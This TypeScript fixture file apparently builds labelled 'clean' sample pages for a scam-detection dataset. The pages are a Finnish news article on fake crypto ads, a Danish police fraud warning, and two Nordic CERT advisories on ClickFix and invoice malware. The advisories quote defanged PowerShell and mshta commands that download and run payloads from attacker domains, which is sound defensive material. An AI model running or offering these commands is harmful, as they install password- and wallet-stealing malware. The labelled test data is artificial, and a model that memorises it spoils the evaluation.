import { type Entry } from '../entry.js';
import { doc, siteHeader, siteCss, siteFooter } from '../parts/yx-kit.js';

export const entries: Entry[] = [
{
  id: 'yx-clean-yle-kuuluisuus-kryptomainokset',
  label: 'clean',
  kind: 'news-article-quoting-scam',
  url: 'https://yle.fi/a/74-20158812',
  body: doc({
    lang: 'fi',
    title: 'Tunnettujen suomalaisten kasvoilla mainostetaan huijaussijoituksia – näin tunnistat valeuutisen | Yle',
    css: `body{margin:0;font-family:"Yle",Arial;color:#131415}.y{background:#131415;color:#00b4c4;padding:12px 28px;font-weight:900;font-size:24px}.a{max-width:680px;margin:24px auto;padding:0 16px}h1{font-size:32px;line-height:1.15}.ad{border:1px dashed #999;padding:12px;background:#fafafa;font-size:15px}`,
    body: `<div class="y">yle</div><div class="a"><h1>Tunnettujen suomalaisten kasvoilla mainostetaan huijaussijoituksia – näin tunnistat valeuutisen</h1>
<p>Sosiaalisessa mediassa leviää mainoksia, jotka näyttävät uutisilta. Niissä tunnetut suomalaiset kertovat muka rikastuneensa «kryptorobotilla».</p>
<div class="ad"><b>Esimerkki huijausmainoksesta:</b><br>«SKANDAALI: Suosittu juontaja paljasti suorassa lähetyksessä, miten hän ansaitsee 9 000 € viikossa – Suomen Pankki yritti estää haastattelun»</div>
<p>Linkki vie sivustolle, joka on tehty näyttämään tutulta uutissivustolta. Sivun lopussa on lomake, johon pyydetään nimeä, sähköpostia ja puhelinnumeroa. Pian soittaa «tilinhoitaja», joka pyytää aluksi 250 euron talletuksen ja myöhemmin asentamaan etäyhteysohjelman.</p>
<p>Kun uhri yrittää nostaa «voittojaan», häntä pyydetään maksamaan ensin veroja tai vakuusmaksuja. Rahat eivät koskaan palaa.</p>
<h2>Näin tunnistat huijauksen</h2><ul><li>Uutinen on sivustolla, jonka osoite ei ole tiedotusvälineen oma.</li><li>Luvataan varmaa ja suurta tuottoa.</li><li>Kiirehditään: «vain 17 paikkaa jäljellä».</li></ul><p>Finanssivalvonta ylläpitää varoituslistaa luvattomista sijoituspalveluista.</p></div>`,
  }),
} satisfies Entry,
{
  id: 'yx-clean-politi-dk-mitid-advarsel',
  label: 'clean',
  kind: 'police-advisory',
  url: 'https://politi.dk/koebenhavns-politi/nyhedsliste/advarsel-falske-opkald-fra-banken-og-mitid/2025/10/09',
  body: doc({
    lang: 'da',
    title: 'Advarsel: Falske opkald fra "banken" og MitID | Politi',
    css: siteCss('#0a2240') + `.q{background:#eef2f7;padding:12px 16px;border-left:4px solid #0a2240}`,
    body: `${siteHeader('<b style="font-size:20px;color:#0a2240">POLITI</b>', [['Anmeld', '/anmeld'], ['Forebyggelse', '/forebyggelse'], ['Nyheder', '/nyhedsliste']])}
<main><h1>Advarsel: Falske opkald fra «banken» og MitID</h1><p>Københavns Politi har den seneste uge modtaget mange anmeldelser om såkaldt «spoofing», hvor svindlere ringer fra et nummer, der ligner bankens.</p>
<p>Svindleren siger typisk:</p><p class="q">«Hej, det er fra Danske Banks sikkerhedsafdeling. Der er nogen, der prøver at overføre penge fra din konto. For at stoppe det skal du godkende i MitID-appen nu – og så flytter vi dine penge over på en sikker konto.»</p>
<p>Herefter modtager offeret en SMS med et link til en falsk side, hvor der skal indtastes bruger-id, CPR-nummer og kortoplysninger.</p>
<h2>Gode råd</h2><ul><li>Din bank beder dig aldrig godkende noget i MitID i telefonen.</li><li>Der findes ikke «sikre konti».</li><li>Læg på og ring selv til din bank.</li></ul><p>Er du blevet udsat for svindel, så anmeld det på politi.dk eller ring 114.</p></main>
${siteFooter(['Københavns Politi · Polititorvet 14, 1780 København V'], ['Privatlivspolitik', 'Tilgængelighed'])}`,
  }),
} satisfies Entry,
{
  id: 'yx-clean-cert-se-clickfix-varning',
  label: 'clean',
  kind: 'security-advisory-quoting-commands',
  url: 'https://www.cert.se/2025/10/clickfix-falska-verifieringssidor-riktas-mot-svenska-anvandare.html',
  body: doc({
    lang: 'sv',
    title: 'ClickFix: falska verifieringssidor riktas mot svenska användare | CERT-SE',
    css: siteCss('#00305f') + `pre{background:#1e1e1e;color:#dcdcdc;padding:14px;overflow:auto;font-size:13px}table{border-collapse:collapse}td,th{border:1px solid #ccc;padding:6px 10px;font-size:14px}`,
    body: `${siteHeader('<b style="font-size:20px;color:#00305f">CERT-SE</b>', [['Nyheter', '/nyheter/'], ['Råd', '/rad/'], ['Rapportera incident', '/rapportera/']])}
<main><h1>ClickFix: falska verifieringssidor riktas mot svenska användare</h1><p class="meta">Publicerad 2025-10-10 · Uppdaterad 2025-10-13</p>
<p>CERT-SE har under hösten sett flera kampanjer där komprometterade svenska webbplatser visar en falsk ”Verifiera att du är en människa”-ruta i Cloudflares eller BankID:s utseende. När användaren klickar kopieras ett kommando till urklipp och sidan instruerar användaren att trycka <b>Windows + R</b>, klistra in med <b>Ctrl + V</b> och trycka <b>Enter</b>.</p>
<p>Exempel på kommandon som observerats (avväpnade):</p>
<pre>powershell -w h -nop -c "iex(irm 'hxxps://cf-verifiering[.]se-kontroll[.]com/ray/9a41.txt')" # ✅ Jag är inte en robot – Cloudflare Ray ID: 8f2a41c7
mshta hxxps://bankid-enhetskontroll[.]se-verify[.]com/v/48812.hta # BankID: Verifiering av enhet</pre>
<p>Den efterföljande koden laddar ned informationsstjälare (t.ex. Lumma och StealC) som stjäl sparade lösenord, sessionskakor och kryptoplånböcker.</p>
<h2>Rekommendationer</h2><ul><li>Informera användare: ingen legitim webbplats ber dig klistra in något i Kör-dialogen.</li><li>Begränsa Win+R via GPO där det är möjligt och logga PowerShell (ScriptBlock Logging).</li><li>Blockera mshta.exe för vanliga användare med AppLocker/WDAC.</li></ul>
<table><tr><th>Indikator</th><th>Typ</th></tr><tr><td>cf-verifiering[.]se-kontroll[.]com</td><td>Domän</td></tr><tr><td>bankid-enhetskontroll[.]se-verify[.]com</td><td>Domän</td></tr></table></main>
${siteFooter(['CERT-SE är Sveriges nationella CSIRT, en del av Myndigheten för samhällsskydd och beredskap (MSB)'], ['Kontakt', 'Om CERT-SE'])}`,
  }),
} satisfies Entry,
{
  id: 'yx-clean-kyberturvallisuuskeskus-laskuhuijaus',
  label: 'clean',
  kind: 'security-advisory-quoting-commands',
  url: 'https://www.kyberturvallisuuskeskus.fi/fi/ajankohtaista/laskuiksi-naamioidut-haittaohjelmat-iso-ja-lnk-tiedostot',
  body: doc({
    lang: 'fi',
    title: 'Laskuiksi naamioidut haittaohjelmat leviävät ISO- ja LNK-tiedostoina | Kyberturvallisuuskeskus',
    css: siteCss('#1d3f72') + `code{background:#eef1f6;padding:1px 5px}pre{background:#eef1f6;padding:12px;overflow:auto;font-size:13px}`,
    body: `${siteHeader('<b style="font-size:18px;color:#1d3f72">Kyberturvallisuuskeskus</b>', [['Ajankohtaista', '/fi/ajankohtaista'], ['Ohjeet', '/fi/ohjeet'], ['Ilmoita', '/fi/ilmoita']])}
<main><h1>Laskuiksi naamioidut haittaohjelmat leviävät ISO- ja LNK-tiedostoina</h1><p>Kyberturvallisuuskeskus on havainnut sähköpostikampanjoita, joissa vastaanottajalle lähetetään «lasku» tai «maksumuistutus». Viestin linkistä ladataan tiedosto, kuten <code>Lasku_77120.zip</code> tai <code>Telenor_Faktura_88214.iso</code>.</p>
<p>Arkiston sisällä on tiedosto, jonka nimi näyttää PDF:ltä, mutta todellinen pääte on <code>.pdf.lnk</code>, <code>.pdf.js</code> tai <code>.pdf.vbs</code>. Pikakuvake käynnistää esimerkiksi komennon:</p>
<pre>cmd.exe /c start /min powershell -w h -nop -c "iwr hxxps://…/l.ps1 -useb | iex"</pre>
<p>Osa kampanjoista käyttää HTML-salakuljetusta: verkkosivu rakentaa tiedoston selaimessa JavaScriptillä ja tallentaa sen käyttäjän koneelle.</p>
<h2>Suositukset organisaatioille</h2><ul><li>Estä ISO-, IMG- ja VHD-tiedostojen automaattinen liittäminen.</li><li>Näytä tiedostopäätteet Windowsin resurssienhallinnassa.</li><li>Estä wscript.exe ja mshta.exe tavallisilta käyttäjiltä.</li></ul></main>
${siteFooter(['Traficomin Kyberturvallisuuskeskus · Kumpulantie 9, Helsinki'], ['Tietosuoja', 'Saavutettavuus'])}`,
  }),
} satisfies Entry,
];
